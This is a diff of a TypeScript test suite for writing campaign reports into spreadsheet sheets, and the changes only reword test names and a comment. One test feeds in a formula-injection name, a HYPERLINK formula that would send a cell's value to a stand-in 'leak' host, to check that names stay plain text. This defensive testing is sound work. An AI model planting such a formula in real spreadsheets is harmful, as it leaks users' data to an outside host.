@@ -7,7 +7,7 @@ import { ask, exampleReport, setUpReportBench } from './report-workspace.ts';
 
 const bench = setUpReportBench();
 
-/** Rows of a table of the sheet by its title, without the title; values as they stand, blanks as "". */
+/** Returns the rows of a table by its title, without the title; blanks are "". */
 function table(file: SpreadsheetFile, sheet: string, title: string): unknown[][] {
   const rows = file.values('A1:BA150', sheet);
   const start = rows.findIndex(([first]) => first === title);
@@ -28,7 +28,7 @@ async function inserted(report: Report = exampleReport(), name = 'Autumn at sea'
   return { own, file, sheet, report_id: reportId };
 }
 
-test('a campaign report stands in a sheet of its own: head, totals, rates, notes, legend, items and series', async () => {
+test('a campaign report has its own sheet with head, totals, rates, notes, legend, items and series', async () => {
   const { file, sheet, report_id } = await inserted();
   expect(sheet).toBe('Report Autumn at sea');
   expect(file.world().current.sheet).toBe(sheet);
@@ -107,7 +107,7 @@ const hostile = [
   '<b>',
 ];
 
-test('names of platforms and campaigns stay the text they are: no formula, number or date comes of them', async () => {
+test('names of platforms and campaigns stay text and never become formulas, numbers or dates', async () => {
   const name = '=HYPERLINK("http://leak.example/?"&A1)';
   const items = hostile.map((text, index) => ({
     ...(example.items[0] ?? expect.unreachable()),
@@ -153,7 +153,7 @@ test('every hostile name in one report, one longer than a cell, and an unknown n
   expect(Object.values(file.sheet(sheet)).filter(({ formula }) => formula !== undefined)).toEqual([]);
 });
 
-test('a refresh writes the same sheet anew and updates its charts: none is added, the look stays', async () => {
+test('a refresh rewrites the same sheet and updates its charts without adding any or changing their style', async () => {
   const { own, file, sheet } = await inserted();
   const before = file.sheetState(sheet);
   expect(before.charts.map(({ options }) => options.title)).toEqual([
@@ -194,7 +194,7 @@ test('each table is one write, whatever its size, and rows are added before they
   expect(file.sheetState(sheet).rows).toBeGreaterThan(1_200);
 });
 
-test('charts never lie over a table', async () => {
+test('charts never cover a table', async () => {
   const { file, sheet } = await inserted();
   const { charts } = file.sheetState(sheet);
   const used = file.values('A1:A200', sheet).flatMap(([cell], index) => (cell === '' ? [] : [index + 1]));
@@ -204,7 +204,7 @@ test('charts never lie over a table', async () => {
   }
 });
 
-test('the sheet is found again by its id when it was renamed, and made anew when it was deleted', async () => {
+test('a renamed sheet is found by its ID, and a deleted one is created again', async () => {
   const { own, file, sheet } = await inserted();
   file.renameSheet(sheet, 'My board');
   expect(ask(file, 'sidebarInsertReport', own.campaign_id, null)).toMatchObject({ ok: true, sheet: 'My board' });
@@ -226,7 +226,7 @@ test("a sheet of that name that the user made is left alone, and so are the user
   expect(JSON.stringify(file.sheetState('report autumn at sea'))).toBe(mine);
 });
 
-test('what the user put below or beside the report stays and moves when it grows; what stood inside is replaced', async () => {
+test('cells of the user below or beside the report stay and move when it grows; cells inside are replaced', async () => {
   const { own, file, sheet } = await inserted(exampleReport());
   const end = rowOf(file, sheet, 'End of the report.');
   const last = file.sheetState(sheet).columns;
